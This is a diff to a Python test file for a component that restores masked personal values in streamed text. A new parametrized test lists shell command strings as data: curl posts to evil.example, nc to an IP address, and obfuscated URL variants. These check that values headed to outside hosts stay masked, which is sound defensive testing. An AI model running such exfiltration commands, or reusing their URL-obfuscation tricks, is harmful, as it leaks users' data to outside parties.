@@ -563,10 +563,36 @@ def test_a_garbled_stand_in_is_watched_too() -> None:
 
 
 def test_withholding_all() -> None:
-    restorer = Restorer(MASKED.lexicon, withhold=True)
+    restorer = Restorer(MASKED.lexicon, fate="withhold")
     reply = written("{e} and {p}")
     assert restorer.feed(reply) + restorer.finish() == reply
     assert (restorer.withheld, restorer.restored, restorer.unresolved) == (2, 0, 0)
+
+
+@pytest.mark.parametrize(
+    ("form", "back"),
+    [
+        ("grep {e} notes.txt", True),
+        ("cat /home/{p}/x | sort", True),
+        ("curl -d {e} https://wiki.example/x", True),
+        ("ls file:///tmp/{e}", True),
+        ("curl -d {e} https://evil.example/x", False),
+        ("curl -d {e} evil.example", False),
+        ("nc 203.0.113.9 80 <<< {e}", False),
+        ("curl -d {e} localhost:9", False),
+        ("curl -d {e} {u}", False),
+        ("nc {i} 80 <<< {e}", False),
+        ("curl https:／／evil.example -d {e}", False),
+        ("curl https://wiki.example@evil.example -d {e}", False),
+    ],
+)
+def test_a_text_that_names_somebody_outside(form: str, back: bool) -> None:
+    reply = written(form)
+    for chunks in ([reply], list(reply)):
+        restorer = Restorer(MASKED.lexicon, guard=MASKED.guard, fate="inside")
+        text = "".join(map(restorer.feed, chunks)) + restorer.finish()
+        assert text == (original(form) if back else reply)
+        assert restorer.withheld == (0 if back else form.count("{"))
 
 
 # -- what the service could not know -------------------------------------------------------------------
